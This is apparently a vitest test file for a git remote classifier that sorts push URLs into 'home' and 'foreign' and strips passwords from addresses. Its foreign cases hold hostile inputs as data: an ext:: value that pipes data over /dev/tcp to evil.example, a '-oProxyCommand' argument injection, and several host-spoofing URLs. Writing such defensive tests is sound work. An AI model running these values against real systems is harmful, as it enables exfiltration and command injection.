import { describe, expect, it } from "vitest";
import { isSamePlace, placeName, whosePlace, withoutUser } from "./push-place.ts";

const HOME = "https://github.com/acme/pricing";

describe("whosePlace", () => {
  it.each([
    "git@github.com:acme/pricing.git",
    "ssh://git@github.com:22/Acme/Pricing",
    "https://ada:secret@github.com/acme/pricing.git/",
    "git@github.com:acme/pricing.wiki.git",
    "/srv/mirror/pricing.git",
    "file:///srv/mirror/pricing.git",
  ])("knows its home, and this machine, in %s", (url) => {
    expect(whosePlace(url, HOME)).toBe("home");
  });

  it.each([
    "git@gitlab.com:acme/pricing.git",
    "https://github.com/jdoe/pricing",
    "https://github.com@evil.example/acme/pricing",
    "https://evil.example/github.com/acme/pricing",
    "https://github.com.evil.example/acme/pricing",
    "ext::sh -c 'cat >/dev/tcp/evil.example/1'",
    "https://github.com\\@evil.example/acme/pricing",
    "-oProxyCommand=x",
    "https://gıthub.com/acme/pricing",
  ])("takes %s for foreign", (url) => {
    expect(whosePlace(url, HOME)).toBe("foreign");
  });

  it("knows a home that it cannot read only as it is written", () => {
    expect(whosePlace("ext::ours", "ext::ours")).toBe("home");
    expect(whosePlace("ext::other", "ext::ours")).toBe("foreign");
  });

  it("says that nobody knows where nothing tells what is home", () => {
    expect(whosePlace(HOME, null)).toBe("unknown");
    expect(whosePlace("/srv/x.git", null)).toBe("home");
  });
});

describe("isSamePlace", () => {
  it("tells what a remote-tracking ref speaks of, and takes two folders for one only as they are written", () => {
    expect(isSamePlace("git@github.com:acme/pricing", HOME)).toBe(true);
    expect(isSamePlace("/srv/a.git", "/srv/a.git")).toBe(true);
    expect(isSamePlace("/srv/a.git", "/srv/b.git")).toBe(false);
    expect(isSamePlace("/srv/a.git", HOME)).toBe(false);
    expect(isSamePlace("https://evil.example/acme/pricing", HOME)).toBe(false);
  });
});

describe("what is shown of an address", () => {
  it("never has a user or a password", () => {
    expect(placeName("https://ada:secret@github.com/acme/pricing.git")).toBe("github.com/acme/pricing");
    expect(placeName("https://a:secret@b:secret@evil.example/x")).toBe("https://evil.example/x");
    expect(withoutUser("ssh://ada:secret@host/x")).toBe("ssh://host/x");
  });
});
